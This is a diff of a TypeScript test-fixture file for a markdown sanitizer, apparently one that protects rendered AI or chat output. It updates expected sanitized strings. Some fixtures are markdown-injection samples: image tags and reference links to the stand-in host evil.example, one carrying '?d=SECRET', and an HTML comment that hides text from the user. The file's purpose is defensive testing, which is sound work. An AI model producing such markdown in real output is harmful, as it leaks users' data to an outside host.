@@ -68,7 +68,7 @@ export const ATTACKS_SANITIZED: Record<keyof typeof ATTACKS, string> = {
   escapedBacktick: "see \\`!\uFF3Bx\uFF3D(https://evil.example/p.png?d=SECRET)` now",
   codeSpanAcrossBlank: "a `b\n\n\uFF1Cimg src=https://evil.example/i.png>` c",
   commentBlock: "Noted.\n\uFF1C!-- hide this\n\nfrom the user -->\nDone.",
-  lazyFence: "> ```\n\uFF1Cimg src=https://evil.example/i.png>\n> \uFF40\uFF40\uFF40",
+  lazyFence: "> \uFF40\uFF40\uFF40\n\uFF1Cimg src=https://evil.example/i.png>\n> \uFF40\uFF40\uFF40",
   definitionTwoLines: "Read it.\n\n[a\nb\uFF3D: https://evil.example/x\n\n!\uFF3Blogo\uFF3D[a b\uFF3D",
   definitionInList:
     "- [c\uFF3D: https://evil.example/x\n1. [d\uFF3D: https://evil.example/y 'hidden'\n>\t[e\uFF3D: https://evil.example/z",
@@ -93,7 +93,7 @@ export const MARKDOWN = {
 
 /** What MARKDOWN reads as once sanitized. */
 export const MARKDOWN_SANITIZED: Record<keyof typeof MARKDOWN, string> = {
-  code: "Run this:\n\uFF40\uFF40\uFF40ts\nconst ids: Array\uFF1Cstring> = [];\n// \uFF1C!-- not a comment --> !\uFF3Bx\uFF3D(y)\n```\nand `\uFF1Cdiv hidden>` stays code.",
+  code: "Run this:\n\uFF40\uFF40\uFF40ts\nconst ids: Array\uFF1Cstring> = [];\n// \uFF1C!-- not a comment --> !\uFF3Bx\uFF3D(y)\n\uFF40\uFF40\uFF40\nand `\uFF1Cdiv hidden>` stays code.",
   table:
     "\uFF5C metric \uFF5C value \uFF5C\n\uFF5C---\uFF5C---\uFF5C\n\uFF5C p50 \uFF5C 12 ms \uFF5C\n\uFF5C a < b \uFF5C c > d \uFF5C",
   links:
@@ -105,7 +105,7 @@ export const MARKDOWN_SANITIZED: Record<keyof typeof MARKDOWN, string> = {
 export const BENIGN = {
   emoji:
     "Ship it \u{1f469}\u200d\u{1f4bb} with \u{1f468}\u200d\u{1f469}\u200d\u{1f467}, \u{1f1eb}\u{1f1f7}\u{1f1ef}\u{1f1f5}, \u{1f44d}\u{1f3fd}, \u2764\ufe0f, 1\ufe0f\u20e3, \u{1f3f3}\ufe0f\u200d\u{1f308} and \u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}",
-  scripts: "مرحبا بالعالم · שלום עולם · می\u200cخواهم · क्\u200dष हिन्दी · ශ්\u200dරී ලංකා · 葛\u{e0100}城",
+  scripts: "مرحبا بالعالم · שלום עולם · می\u200cخواهم · क्\u200dष हिन्दी · ශ්\u200dරී ලංකා · 葛城",
   more: "Привет, мир · Γειά σου · สวัสดี · 你好，世界 · こんにちは · 안녕하세요 · Ünïcödé façade",
   urls: "https://example.com/search?q=a&b=2#top and https://example.com/a%20b/~c_d-e.f or mailto:ops@example.com, www.example.org",
   numbers: "Q3: 1,234.56 € (+12.5 %), 3/4 done, 10:30–11:00, #42, −7 °C, 1e-3, x<3, 2 > 1, 50% off",
